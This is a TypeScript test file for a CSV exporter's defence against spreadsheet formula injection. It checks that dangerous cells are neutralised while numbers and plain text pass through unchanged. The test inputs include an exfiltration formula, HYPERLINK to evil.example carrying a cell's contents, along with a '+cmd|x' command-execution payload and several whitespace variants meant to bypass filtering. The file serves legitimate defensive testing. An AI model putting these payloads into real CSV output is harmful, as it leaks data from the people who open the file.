import { csv } from './csv';

const cellOf = (text: string): string => String(csv([[text]], '').body).replace(/\r\n$/, '');

describe('a cell of a CSV answer', () => {
  it.each([
    ['=HYPERLINK("http://evil.example?"&A1)', `"'=HYPERLINK(""http://evil.example?""&A1)"`],
    ['+cmd|x', `"'+cmd|x"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    [' =1', `"' =1"`],
    ['＝1', `"'＝1"`],
  ])('that a spreadsheet would compute is text: %j', (text, expected) => {
    expect(cellOf(text)).toBe(expected);
  });

  it.each(['-1.5', '+2', '0', '1e-7', '-3E+4', '.5'])('that is a number stays one: %s', (text) => {
    expect(cellOf(text)).toBe(text);
  });

  it.each([
    ['a=b;c=d', 'a=b;c=d'],
    ['one,two', '"one,two"'],
    ['say "yes"', '"say ""yes"""'],
    ['', ''],
  ])('of ordinary text is as it was: %j', (text, expected) => {
    expect(cellOf(text)).toBe(expected);
  });
});
